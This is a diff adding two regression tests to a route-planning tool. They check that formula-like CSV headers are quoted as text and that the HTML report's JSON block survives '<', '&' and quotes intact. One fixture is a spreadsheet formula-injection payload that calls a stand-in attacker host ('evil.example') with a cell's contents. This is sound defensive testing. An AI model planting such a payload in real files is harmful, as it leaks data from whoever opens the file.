@@ -180,6 +180,36 @@ def test_csv_cells_open_as_text_in_a_spreadsheet(hostile: Path) -> None:
     assert any(number.fullmatch(c) and c.startswith("-1.") for c in cells)
 
 
+def test_a_column_named_like_a_formula_opens_as_text(tmp_path: Path) -> None:
+    """A booking's own column carried into a plan's CSV: its header is quoted like a cell.
+
+    Until the thirty-fifth stop the header went out as written, and a spreadsheet opening
+    rosters.csv ran it.
+    """
+    from pts_optimiser.io.tables import read_table, write_table
+
+    name = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+    write_table(tmp_path / "t.csv", ["journey_id", name], [{"journey_id": "J1", name: "x"}])
+    header = next(csv.reader((tmp_path / "t.csv").open(encoding="utf-8")))
+    assert header == ["journey_id", "'" + name]
+    table = read_table(tmp_path / "t.csv")
+    assert table.columns == ("journey_id", name) and table.rows[0][name] == "x"
+
+
+def test_the_reports_figures_read_back_as_written(hostile: Path) -> None:
+    """report.html's JSON block gives each vehicle id exactly, `<`, `&` and quotes too.
+
+    Until the thirty-fifth stop it was HTML-escaped, so JSON.parse read `&lt;svg...`.
+    """
+    from tests.helpers import report_figures
+
+    shifts = report_figures(hostile / "plan")["shifts"]
+    assert isinstance(shifts, list)
+    assert {shift["vehicle_id"] for shift in shifts} == set(VEHICLES)
+    page = (hostile / "plan" / "report.html").read_text(encoding="utf-8")
+    assert "<svg" not in page.split('id="figures">')[1].split("</script>")[0]
+
+
 def test_plan_reads_back_with_the_labels_as_written(hostile: Path) -> None:
     """Reading the plan folder back gives each stop's label as read, quote and all gone.
 
